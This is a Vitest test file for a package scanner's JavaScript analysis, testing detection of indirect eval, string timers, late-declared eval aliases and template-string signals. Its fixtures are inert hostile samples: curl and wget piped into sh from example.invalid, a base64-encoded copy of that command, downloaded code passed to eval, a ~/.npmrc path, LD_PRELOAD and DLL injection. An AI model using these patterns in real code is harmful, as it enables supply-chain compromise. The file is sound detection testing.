import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { scanTarball, type ScanReport } from '../../helper/src/scan/index.js';
import { analyseProgram } from '../../helper/src/scan/js/analyse.js';
import { Bindings } from '../../helper/src/scan/js/bindings.js';
import { parseProgram } from '../../helper/src/scan/js/parse.js';
import { gatherTree } from '../../helper/src/scan/js/tree.js';
import { packTree, tempDir } from './support.js';

// Forms the reviewer found the analysis missing (issue 12, session 5), written here as inert code aimed at
// reserved names (example.invalid, documentation address ranges aside from the public one graded).
let work: { dir: string; cleanup(): Promise<void> };
beforeAll(async () => {
  work = await tempDir('sscs-misses-');
});
afterAll(() => work.cleanup());

/** The kinds of signal the analysis gives for `text`, in order. */
function kinds(text: string): string[] {
  const parsed = parseProgram(text);
  if ('error' in parsed) throw new Error(parsed.error);
  return analyseProgram(parsed.program, text).signals.map((s) => s.kind);
}

let n = 0;
async function onRequire(code: string): Promise<ScanReport> {
  return scanTarball(await packTree(work.dir, `miss-${n++}`, { main: 'index.js' }, { 'index.js': code }));
}
const summary = (r: ScanReport) => r.findings.map((f) => `${f.severity} ${f.rule}`);

describe('a template without substitutions is graded as the string literal it equals', () => {
  // [what, code with Q where the quote goes, the signal the string gives]
  const cases: [string, string, string][] = [
    ['a URL with a public IP address', "require('https').get(Qhttp://45.33.2.1/xQ);\n", 'public-ip'],
    ['a credential store path', 'const p = Q/home/u/.npmrcQ;\n', 'secret-path'],
    ['a download piped into a shell', 'module.exports = Qcurl -s https://example.invalid/x | shQ;\n', 'download-exec'],
    ['an LD_PRELOAD assignment', 'const env = QLD_PRELOAD=/tmp/x.soQ;\n', 'ld-preload'],
    ['an executable started with a DLL', "lib.start(QC:/x/app.exeQ, QC:/x/inject.dllQ);\n", 'dll'],
  ];
  it.each(cases)('%s', (_, code, kind) => {
    const literal = kinds(code.replaceAll('Q', "'"));
    expect(literal).toContain(kind);
    expect(kinds(code.replaceAll('Q', '`'))).toEqual(literal);
  });

  it('a send to a public IP written as a template is code-public-ip, as the literal is', async () => {
    expect(summary(await onRequire("require('https').get(`http://45.33.2.1/x`);\n"))).toEqual(summary(await onRequire("require('https').get('http://45.33.2.1/x');\n")));
    expect(summary(await onRequire("require('https').get(`http://45.33.2.1/x`);\n"))).toContain('medium code-public-ip');
  });

  it('a private address or a plain template is not graded', () => {
    expect(kinds("require('https').get(`http://10.0.0.1/x`);\nconst m = `hello world`;\n")).toEqual(['network']);
  });
});

const DECODED = "Buffer.from('Y3VybCBodHRwczovL2V4YW1wbGUuaW52YWxpZC94IHwgc2g=', 'base64').toString()";
/** A body downloaded into `b`, then handed to CALL (a statement using `b`). */
const downloaded = (call: string) => `const https = require('https');\nhttps.get('https://example.invalid/p', (res) => { let b = ''; res.on('data', (c) => (b += c)); res.on('end', () => { ${call}; }); });\n`;

describe('indirect calls of eval and Function', () => {
  // [form, a statement evaluating p]
  const forms: [string, string][] = [
    ['Reflect.apply(eval, …)', 'Reflect.apply(eval, undefined, [p])'],
    ['Reflect.apply(Function, …)()', "Reflect.apply(Function, undefined, ['a', p])()"],
    ['Reflect.construct(Function, …)', 'Reflect.construct(Function, [p])()'],
    ['globalThis.Reflect.apply(eval, …)', 'globalThis.Reflect.apply(eval, null, [p])'],
    ['Reflect.apply on an alias of eval', 'Reflect.apply(ev, null, [p])'],
    ['eval.call(null, …)', 'eval.call(null, p)'],
    ['eval.apply(null, […])', 'eval.apply(null, [p])'],
    ['Function.prototype.call.call(eval, …)', 'Function.prototype.call.call(eval, null, p)'],
    ['Function.prototype.apply.call(eval, …)', 'Function.prototype.apply.call(eval, null, [p])'],
  ];
  it.each(forms)('%s of decoded data', (_, call) => {
    expect(kinds(`const ev = eval;\nconst p = ${DECODED};\n${call};\n`)).toContain('eval-decoded');
  });
  it.each(forms)('%s of downloaded data', (_, call) => {
    expect(kinds(`const ev = eval;\n${downloaded(call.replace(/\bp\b/, 'b'))}`)).toContain('eval-remote');
  });

  it('Reflect.apply of another function, or of eval on a literal, is no sink', () => {
    expect(kinds(`const p = ${DECODED};\nReflect.apply(console.log, null, [p]);\n`)).toEqual([]);
    // what the call returns is called, not eval's argument evaluated twice
    expect(kinds(`const p = ${DECODED};\nReflect.apply(eval, null, ['1']);\n`)).toEqual([]);
  });

  it('a child process reached through Reflect.apply or .call gets its command, not the this-argument', () => {
    const found = kinds("const cp = require('child_process');\nReflect.apply(cp.exec, cp, ['curl -s https://example.invalid/x | sh']);\ncp.execSync.call(cp, 'wget https://example.invalid/y -O- | sh');\n");
    expect(found.filter((k) => k === 'exec:download-exec')).toHaveLength(2);
  });

  it('a package evaluating a downloaded body through Reflect.apply is high on require', async () => {
    const r = await onRequire(downloaded('Reflect.apply(eval, undefined, [b])'));
    expect(summary(r)).toContain('high code-remote-eval');
  });
});

describe('string timers through the global object', () => {
  // [form, a statement handing b to a timer]
  const timers: [string, string][] = [
    ['globalThis.setTimeout(body)', 'globalThis.setTimeout(b)'],
    ['window.setInterval(body, ms)', 'window.setInterval(b, 1000)'],
    ['global.setTimeout(concatenation)', "global.setTimeout('' + b)"],
    ["self['setTimeout'](template)", "self['setTimeout'](`${b}`)"],
    ['setTimeout(body) by name', 'setTimeout(b)'],
    ['globalThis.setTimeout.call(null, body)', 'globalThis.setTimeout.call(null, b)'],
  ];
  it.each(timers)('%s of downloaded data', (_, call) => {
    expect(kinds(downloaded(call))).toContain('eval-remote');
  });

  it('of a decoded constant', () => {
    expect(kinds(`const p = ${DECODED};\nwindow.setTimeout(p, 10);\n`)).toContain('eval-decoded');
  });

  it('a function handed to a timer, even one given as a callback parameter inside a download, is no sink', () => {
    expect(kinds(downloaded('globalThis.setTimeout(() => b, 0); [b].forEach((f) => setTimeout(f, 0)); window.setTimeout(res.resume, 1)'))).not.toContain('eval-remote');
    expect(kinds('function tick() {}\nwindow.setTimeout(tick, 10);\nglobalThis.setInterval(tick, 10);\n')).toEqual([]);
  });

  it('a package evaluating a downloaded body through globalThis.setTimeout is high on require', async () => {
    expect(summary(await onRequire(downloaded('globalThis.setTimeout(b)')))).toContain('high code-remote-eval');
  });
});

describe('an eval alias declared after the code that uses it', () => {
  const aliases: [string, string][] = [
    ['const, after a timer callback', `setTimeout(() => e(x));\nconst e = eval;\nconst x = ${DECODED};\n`],
    ['var (hoisted), after a function using it', `function run() { e(x); }\nvar e = eval;\nvar x = ${DECODED};\nrun();\n`],
    ['a chain of three, each before its target', `setTimeout(() => a(x));\nconst a = b;\nconst b = c;\nconst c = eval;\nconst x = ${DECODED};\n`],
    ['a chain of four through the global object', `setTimeout(() => a(x));\nconst a = b;\nconst b = c.eval;\nconst c = g;\nconst g = globalThis;\nconst x = ${DECODED};\n`],
  ];
  it.each(aliases)('%s', (_, code) => {
    expect(kinds(code)).toContain('eval-decoded');
  });

  // A function that hands its first parameter to eval or Function is graded as eval at its callers.
  const wrappers: [string, string][] = [
    ['a function declaration, hoisted above its use', `setTimeout(() => e(x));\nfunction e(s) { return eval(s); }\nconst x = ${DECODED};\n`],
    ['a var function expression, declared after its use', `function go() { e(x); }\nvar e = function (s) { (0, eval)(s); };\nvar x = ${DECODED};\ngo();\n`],
    ['an arrow wrapping Function', `const run = (body) => Function(body)();\nrun(${DECODED});\n`],
    ['a wrapper of an alias declared after both', `function run(s) { ev(s); }\nrun(${DECODED});\nvar ev = eval;\n`],
  ];
  it.each(wrappers)('a wrapper: %s', (_, code) => {
    expect(kinds(code)).toContain('eval-decoded');
  });

  it('a wrapper given downloaded data, declared after the download', () => {
    expect(kinds(`${downloaded('run(b)')}function run(s) { e(s); }\nvar e = eval;\n`)).toContain('eval-remote');
  });

  it('a file of many wrappers costs a pass over its calls for the first 16 only', () => {
    const many = Array.from({ length: 2000 }, (_, i) => `function w${i}(s) { return eval(s); }\nw${i}(${i === 1999 ? 'atob(q)' : "'1'"});\n`).join('');
    const found = kinds(`${many}w3(atob(q));\n`);
    expect(found).toEqual(['eval-decoded']); // w3 is among the first 16; w1999 is not followed
  });

  it('a function that evaluates something other than its first parameter is no wrapper', () => {
    expect(kinds(`function f(s) { return eval('1'); }\nf(${DECODED});\nfunction g(a, s) { return eval(s); }\ng(${DECODED}, 1);\n`)).toEqual([]);
  });

  it('a chain of three declared after a download', () => {
    expect(kinds(`${downloaded('x(b)')}const x = y;\nconst y = z;\nconst z = eval;\n`)).toContain('eval-remote');
  });
});

describe('binding rounds: as many as a chain needs, no more', () => {
  /** The rounds Bindings.bind runs over `text`. */
  function rounds(text: string): number {
    const parsed = parseProgram(text);
    if ('error' in parsed) throw new Error(parsed.error);
    const tree = gatherTree(parsed.program);
    const b = new Bindings(() => false, tree.mutable);
    b.bind(tree.binders, tree.binderRoots);
    return b.rounds;
  }
  it.each([
    ['every name bound before its use', "const cp = require('child_process');\nconst run = cp.exec;\n", 1],
    ['one alias before its target', "const run = cp.exec;\nconst cp = require('child_process');\n", 2],
    ['a chain of three before their target', 'const a = b;\nconst b = c;\nconst c = eval;\n', 3],
    // bound to one module, then another: stale in every round, but a round changes nothing
    ['a name bound to two modules in turn', "let m = require('fs');\nconst r = m.readFileSync;\nm = require('os');\nconst h = m.hostname;\n", 2],
  ])('%s: %i', (_, text, expected) => {
    expect(rounds(text)).toBe(expected);
  });
});
